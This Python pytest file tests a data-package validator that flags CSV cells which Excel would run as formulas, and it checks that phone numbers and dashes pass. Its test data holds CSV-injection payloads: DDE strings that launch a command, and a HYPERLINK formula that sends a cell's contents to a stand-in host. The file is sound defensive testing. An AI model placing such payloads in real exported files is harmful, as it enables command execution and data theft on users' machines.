"""A cell that a spreadsheet would run is a remark; a telephone number, a negative number or a dash is none."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from builder import load, protect, validate
from builder.language import said
from builder.load.descriptor import package
from builder.model import Address, Finding, Message, Policy, Quote, Severity
from tests import packages

HINT = "Excel may run it instead of showing it: begin the cell with a word, or write the sign after the text."

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://x/?\"&A1,\"看\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-巡查",
    "- 无",
    "@SUM(1)",
    "@张三",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋甲",
    "－甲",
    "＠x",
    "=",
    "@",
    "+86 517 8390 1234转A1",
]  # fmt: skip
HARMLESS = [
    "-5",
    "+5",
    "-0.5",
    "+86 517 8390 1234",
    "+86-517-83901234",
    "+86 (517) 8390.1234",
    "+86 517 83901234转8001",
    "+86 517 83901234 分机 8001",
    "＋８６ ５１７",
    "-1,024",
    "-3%",
    "-",
    "--",
    "---",
    "－",
    "－－",
    "+",
    "1=1",
    " =1+1",
    "——",
    "－５",
    "a@b.cn",
    "柴米-1格",
    "0517-83901234",
    "",
]


def field(name: str, publish: str = "public", **rest: object) -> dict[str, Any]:
    return {"name": name, "title": f"{name}栏", "publish": publish, **rest}


def findings(folder: Path, fields: Sequence[dict[str, Any]], rows: Sequence[Sequence[str]]) -> tuple[Finding, ...]:
    """Return what is found in a table `note` of these text cells."""
    schema = {"fields": fields, "primaryKey": [fields[0]["name"]]}
    packages.write_json(folder / "note.json", schema)
    packages.write_json(
        folder / "datapackage.json",
        {"resources": [{"name": "note", "title": "便条", "path": "note.csv", "schema": "note.json"}]},
    )
    quoted = [[str(item["name"]) for item in fields], *([quoted_cell(cell) for cell in row] for row in rows)]
    (folder / "note.csv").write_bytes("".join(",".join(row) + "\n" for row in quoted).encode())
    whole = package(folder)
    text, unreadable = load.tables(whole)
    assert unreadable == []
    return tuple(validate.tables(whole, text, {})[1].findings)


def quoted_cell(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@pytest.mark.parametrize("cell", FORMULAS, ids=[json.dumps(cell) for cell in FORMULAS])
def test_what_begins_like_a_formula_is_a_warning_with_its_place(cell: str, tmp_path: Path) -> None:
    (found,) = findings(tmp_path, [field("key"), field("x")], [("1", "甲"), ("2", cell)])

    quote = Quote("note", "x", cell.replace("\r", "↵"))
    assert found == Finding(
        "formula", Severity.WARNING, "note", Address("note.csv", 3, "B"),
        Message("“{value}” begins like a formula", HINT, {"value": quote}), "x栏", quote,
    )  # fmt: skip


@pytest.mark.parametrize("cell", HARMLESS, ids=[json.dumps(cell) for cell in HARMLESS])
def test_numbers_telephones_and_dashes_are_no_formula(cell: str, tmp_path: Path) -> None:
    found = findings(tmp_path, [field("key"), field("x")], [("1", "甲"), ("2", cell)])
    assert "formula" not in {item.code for item in found}


def test_every_row_with_a_formula_is_named_in_the_files_order(tmp_path: Path) -> None:
    rows = [(str(n), "=A1" if n % 2 else "-5", "@x" if n == 4 else "") for n in range(6)]
    found = findings(tmp_path, [field("key"), field("x"), field("y")], rows)

    assert [(*item.address, item.column) for item in found] == [
        ("note.csv", 3, "B", "x栏"), ("note.csv", 5, "B", "x栏"),
        ("note.csv", 6, "C", "y栏"), ("note.csv", 7, "B", "x栏"),
    ]  # fmt: skip


def test_a_ragged_row_does_not_shift_the_row_of_a_formula(tmp_path: Path) -> None:
    found = findings(tmp_path, [field("key"), field("x")], [("1", "甲"), ("2", "乙", "丙"), ("3", "=1")])

    assert [(item.code, item.address) for item in found] == [
        ("ragged-row", Address("note.csv", 3)), ("formula", Address("note.csv", 4, "B")),
    ]  # fmt: skip


def test_only_text_can_begin_like_a_formula(tmp_path: Path) -> None:
    fields = [field("key"), field("number", type="number"), field("count", type="integer")]

    assert findings(tmp_path, fields, [("1", "-2.5", "-3"), ("2", "+1", "+7")]) == ()


def test_a_value_that_the_schema_lists_is_the_schemas_business(tmp_path: Path) -> None:
    grade = field("grade", constraints={"enum": ["+甲", "甲"]})

    assert findings(tmp_path, [field("key"), grade], [("1", "+甲"), ("2", "甲")]) == ()


@pytest.mark.parametrize(("publish", "shown"), [("public", "=1+1"), ("counts", "***"), ("never", "***")])
def test_a_cell_that_is_not_published_is_not_repeated_to_anybody(publish: str, shown: str, tmp_path: Path) -> None:
    found = findings(tmp_path, [field("key"), field("x", publish)], [("1", "=1+1")])
    public = frozenset({"key", "x"} if publish == "public" else {"key"})
    policy = Policy({"note": public}, {}, {}, 10, 10, 10, quotable=frozenset({"note"}))
    (remark,) = protect.for_staff(found, policy)

    assert (remark.value, said(str, remark.message)) == (shown, (f"“{shown}” begins like a formula", HINT))


def test_a_long_cell_is_quoted_in_part_and_on_one_line(tmp_path: Path) -> None:
    (found,) = findings(tmp_path, [field("key"), field("x")], [("1", "=一\n" + "长" * 100)])

    assert found.value == Quote("note", "x", "=一↵" + "长" * 57)
